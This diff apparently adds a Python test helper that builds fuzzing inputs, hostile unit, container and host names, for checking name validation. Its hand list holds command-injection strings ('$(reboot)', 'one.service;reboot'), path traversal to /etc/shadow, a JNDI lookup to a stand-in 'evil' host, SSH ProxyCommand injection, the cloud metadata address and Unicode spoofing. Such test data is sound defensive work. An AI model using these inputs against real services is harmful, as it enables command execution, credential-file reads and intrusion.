@@ -1,0 +1,106 @@
+"""Names nobody should be able to use: hostile units, containers and hosts, any number of them, always the same."""
+
+import random
+
+_HAND = (
+    "",
+    " ",
+    "*",
+    "?",
+    "[a-z]*.service",
+    ".",
+    "..",
+    "-",
+    "--",
+    "-H",
+    "-Hroot@evil",
+    "--root=/x",
+    "--host=evil",
+    "--now",
+    "--user",
+    "-M evil",
+    "one.service two.service",
+    "one.service;reboot",
+    "one.service&&reboot",
+    "one.service|reboot",
+    "one.service\nreboot",
+    "one.service\n",
+    "one.service\r",
+    "one.service\x00",
+    "$(reboot)",
+    "`reboot`",
+    "${IFS}reboot",
+    "'; reboot; '",
+    '"; reboot; "',
+    "\\",
+    "\\x2d",
+    "../../etc/shadow",
+    "/etc/systemd/system/evil.service",
+    "file:///etc/shadow",
+    "~root",
+    "~",
+    "!!",
+    "#one",
+    ">/etc/passwd",
+    "</etc/shadow",
+    "@one",
+    "one@",
+    "one@two@three",
+    "\u202eecivres.eno",
+    "one\u200b.service",
+    "\uff4f\uff4e\uff45.service",
+    "\u043ene.service",
+    "\u0661\u0662\u0663",
+    "one.servi\u0441e",
+    "\x1b[31mone\x1b[0m",
+    "\x1b]52;c;AAAA\x07",
+    "x" * 256,
+    "x" * 300,
+    "x" * 40_000,
+    "a" * 255 + ".service",
+    "\ud83d\udca3",
+    "null",
+    "None",
+    "true",
+    "0",
+    "%n",
+    "%H",
+    "{{7*7}}",
+    "${jndi:ldap://evil}",
+    "root@evil",
+    "evil:22",
+    "-oProxyCommand=reboot",
+    "ssh://evil",
+    "127.0.0.1",
+    "::1",
+    "[::1]:22",
+    "0x7f000001",
+    "2130706433",
+    "localhost",
+    "169.254.169.254",
+    "alpha.evil",
+    "alpha\t",
+    " alpha",
+    "ALPHA ",
+    "alpha,beta",
+    "alpha beta",
+    "all hosts",
+    "tag:",
+    "tag:*",
+    "tag:../x",
+    "group:all",
+)
+_SPICE = (*"*?[]{}()<>|&;$`'\"\\!#~ \t\n\r\x00\x1b,=%^+", "--", "../", "$(", "\u202e", "\u200b", "\uff0d", "\u2010")
+
+
+def hostile(count: int, seed: int, real: tuple[str, ...]) -> list[str]:
+    """Return so many hostile names: the known ones, then `real` names with something put in, before or behind."""
+    rng = random.Random(seed)
+    names = [name for name in _HAND if name not in real]
+    while len(names) < count:
+        name = rng.choice(real)
+        position = rng.randrange(len(name) + 1)
+        bent = name[:position] + "".join(rng.choices(_SPICE, k=rng.randrange(1, 4))) + name[position:]
+        if bent.strip() not in real:  # white space around a name is what a careless person types
+            names.append(bent)
+    return names[:count]
